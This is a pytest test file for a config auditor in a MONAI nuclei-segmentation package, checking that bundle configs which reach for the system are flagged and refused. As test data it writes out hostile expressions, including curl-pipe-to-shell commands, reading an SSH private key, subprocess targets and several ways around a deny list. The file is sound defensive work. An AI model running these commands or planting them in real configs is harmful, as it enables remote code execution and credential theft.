"""What a bundle's configs would run, read before any of it runs: the shipped configs pass, configs that reach for
the system are named by file and key, and a sealed bundle with them is refused unless the sender is trusted."""

import json
import logging
import shutil
from pathlib import Path

import pytest
import torch

from nucleiseg_monai import cli, packaging
from nucleiseg_monai.config_audit import audit, expression_problems, target_problem
from nucleiseg_monai.networks import UNet

REPO = Path(__file__).resolve().parents[1]
BUNDLES = sorted((REPO / "bundles").glob("*/configs/metadata.json"))


@pytest.mark.parametrize("bundle", [m.parents[1] for m in BUNDLES], ids=lambda p: p.name)
def test_the_shipped_bundles_configs_use_nothing_beyond_a_bundles_needs(bundle):
    assert BUNDLES and audit(bundle) == []


OUTSIDE = "is outside what bundles use"


@pytest.mark.parametrize("expression, said", [
    ('os.system("curl x | sh")', f"os.system {OUTSIDE}"),
    ("import subprocess", "imports subprocess, outside what bundles use"),
    ("from os import system", "imports from os"),
    ('__import__("os")', "calls or reads __import__"),
    ('open("/home/me/.ssh/id_rsa").read()', "calls or reads open"),
    ('eval("1")', "calls or reads eval"),
    ('getattr(torch.nn, "os")', "calls or reads getattr"),
    ("@network_def.__class__.__init__.__globals__", "reaches __class__, __globals__, __init__ through"),
    ('torch.os.system("x")', f"torch.os.system {OUTSIDE}"),
    ('monai.utils.optional_import("subprocess")', f"monai.utils.optional_import {OUTSIDE}"),
    ('@network.os.system("x")', "reaches os, system through @ref.os.system"),
    ('torch.hub.load("someone/repo", "model")', f"torch.hub.load {OUTSIDE}"),
    ('monai.bundle.download("x")', f"monai.bundle.download {OUTSIDE}"),
    ("torch.load(@ckpt_path, weights_only=False)", "loads with weights_only=False, which can run code"),
    ('numpy.load("x.npy", None, True)', "calls or reads numpy"),
    ("os.system(", "is not Python MONAI could evaluate"),
    # ways around a list of what is forbidden, each of which ran a command or removed a file through MONAI
    ('os.path.os.system("touch pwned")', f"os.path.os.system {OUTSIDE}"),
    ("os", "uses the module os itself as a value"),
    ("@module_made_elsewhere.remove(@victim)", "reaches remove through @ref.remove"),
    ('torch.utils.collect_env.run("touch pwned")', f"torch.utils.collect_env.run {OUTSIDE}"),
    ("[(lambda eval: 0), eval(\"__import__('os').system('x')\")]", "binds the name eval, which shadows a builtin"),
    ('torch.save(@network, "/tmp/elsewhere.pt")', f"torch.save {OUTSIDE}"),
    ('logging.FileHandler("/tmp/log")', f"logging.FileHandler {OUTSIDE}"),
    ('torch.distributed.run.main(["x"])', f"torch.distributed.run.main {OUTSIDE}"),
    ('f"{os.system(1)}"', f"os.system {OUTSIDE}"),
])
def test_expressions_outside_what_bundles_use_are_named(expression, said):
    assert any(said in problem for problem in expression_problems(expression)), expression_problems(expression)


@pytest.mark.parametrize("expression", [
    "import torch.distributed as dist",
    "os.path.join(@bundle_root, 'models', 'model.pt')",
    "torch.device('cuda:' + os.environ['LOCAL_RANK']) if torch.cuda.is_available() else torch.device('cpu')",
    "sorted({r['source'] for r in @validate#records})",
    "lambda engine: engine.state.epoch % 2 == 0",
    "nucleiseg_monai.transforms.train_transforms(@channel_stats['mean'], @channel_stats['std'], @patch_size)",
    "@train#trainer.run()",
    "@train::trainer.run()",
    "torch.load(@ckpt_path, weights_only=True)",
    "list(map(str, reversed(@values)))",
    "monai.apps.pathology.inferers.SlidingWindowHoVerNetInferer",
    "dist.get_rank() == 0",
])
def test_what_bundles_do_passes(expression):
    assert expression_problems(expression) == []


@pytest.mark.parametrize("target, said", [
    ("SupervisedTrainer", None),
    ("HoVerNetInstanceMapPostProcessingd", None),
    ("nucleiseg_monai.networks.UNet", None),
    ("torch.optim.AdamW", None),
    ("run_cmd", "run_cmd is MONAI's monai.utils.misc, outside the modules bundle components come from"),
    ("create_workflow", "create_workflow is MONAI's monai.bundle.scripts"),
    ("extractall", "extractall is MONAI's monai.apps.utils"),
    ("os.system", f"os.system {OUTSIDE}"),
    ("os.path.os.system", f"os.path.os.system {OUTSIDE}"),
    ("subprocess.run", f"subprocess.run {OUTSIDE}"),
    ("monai.utils.instantiate", f"monai.utils.instantiate {OUTSIDE}"),
])
def test_targets_are_judged_like_expressions(target, said):
    problem = target_problem(target)
    assert problem == said if said is None else said in problem


def test_macros_pulling_in_other_files_and_yaml_configs_are_named(tmp_path):
    (tmp_path / "configs").mkdir()
    (tmp_path / "configs" / "train.json").write_text(json.dumps({"a": "%../docs/notes.json#x", "b": "%#a"}))
    (tmp_path / "configs" / "extra.yaml").write_text("run: $print(1)\n")
    assert audit(tmp_path) == [
        "configs/extra.yaml: a YAML config, which is not audited; give configs as JSON",
        "configs/train.json: a: '%../docs/notes.json#x': pulls in part of another file, which is not audited"]


def _sealed(tmp_path: Path, change) -> Path:
    """A small bundle with the real configs, one of them changed by ``change``, sealed with a manifest."""
    source = REPO / "bundles" / "nuclei_unet_small"
    bundle = tmp_path / "sent"
    (bundle / "configs").mkdir(parents=True)
    for name in ("metadata.json", "train.json", "inference.json"):
        shutil.copy(source / "configs" / name, bundle / "configs" / name)
    train = json.loads((bundle / "configs" / "train.json").read_text())
    change(train)
    (bundle / "configs" / "train.json").write_text(json.dumps(train, indent=4))
    (bundle / "models").mkdir()
    torch.save(UNet(features=(4, 8)).state_dict(), bundle / "models" / "model.pt")
    (bundle / "LICENSE").write_text("Apache-2.0\n")
    packaging.write_manifest(bundle)
    return bundle


def _add_shell_command(train: dict) -> None:
    train["initialize"].insert(1, "$os.system('curl https://example.org/x | sh')")
    train["train"]["handlers"][0]["_target_"] = "subprocess.Popen"


def test_a_sealed_bundle_whose_configs_run_commands_is_refused_unless_trusted(tmp_path, monkeypatch):
    bundle = _sealed(tmp_path, _add_shell_command)
    assert packaging.verify(bundle) == []  # its files are those the sender sealed
    found = sorted(audit(bundle))
    assert len(found) == 2
    assert found[0].startswith("configs/train.json: initialize#1: \"$os.system('curl https://example.org/x | sh')\"")
    assert found[1].startswith("configs/train.json: train#handlers#0#_target_: 'subprocess.Popen'")
    monkeypatch.delenv(packaging.TRUST_ENV, raising=False)
    with pytest.raises(packaging.BundleIntegrityError, match=f"with {packaging.TRUST_ENV}=1 set") as info:
        packaging.check_bundle(bundle)
    assert f"os.system {OUTSIDE}" in str(info.value)
    monkeypatch.setenv(packaging.TRUST_ENV, "1")
    packaging.check_bundle(bundle)  # the receiver read them and trusts the sender


def test_unpack_names_such_configs_and_a_plain_bundle_passes(tmp_path, caplog, monkeypatch):
    monkeypatch.delenv(packaging.TRUST_ENV, raising=False)
    plain = _sealed(tmp_path / "a", lambda train: None)
    packaging.check_bundle(plain)
    bundle = _sealed(tmp_path / "b", _add_shell_command)
    (bundle / "manifest.json").unlink()  # a working copy: packed as its author wants, with a warning
    with caplog.at_level(logging.WARNING, logger="nucleiseg_monai.packaging"):
        zip_path = packaging.pack(bundle, tmp_path / "sent.zip")
        dest = packaging.unpack(zip_path, tmp_path / "received" / "sent")
    packed, unpacked = [r.getMessage() for r in caplog.records if "os.system" in r.getMessage()]
    assert "receivers will see this when they unpack it" in packed
    assert unpacked.startswith(f"{dest}: its configs reach beyond what a bundle needs, read those lines: ")
    with pytest.raises(packaging.BundleIntegrityError):
        packaging.check_bundle(dest)


def test_verify_prints_what_the_configs_reach_for_and_fails(tmp_path, capsys, monkeypatch):
    monkeypatch.delenv(packaging.TRUST_ENV, raising=False)
    assert cli.main(["verify", "--bundle", str(_sealed(tmp_path / "a", lambda train: None))]) == 0
    assert "nothing outside the allow-list of nucleiseg_monai.config_audit was found" in capsys.readouterr().out
    assert cli.main(["verify", "--bundle", str(_sealed(tmp_path / "b", _add_shell_command))]) == 1
    out = capsys.readouterr().out.splitlines()
    assert out[0].startswith("config: configs/train.json: ") and "os.system" in out[0] + out[1]
    assert out[2:] == ["bundle matches its manifest", "its configs reach beyond what a bundle needs (2 line(s) above): "
                       f"read them; nucleiseg runs it only with {packaging.TRUST_ENV}=1 set, which says you trust "
                       "whoever sent it"]
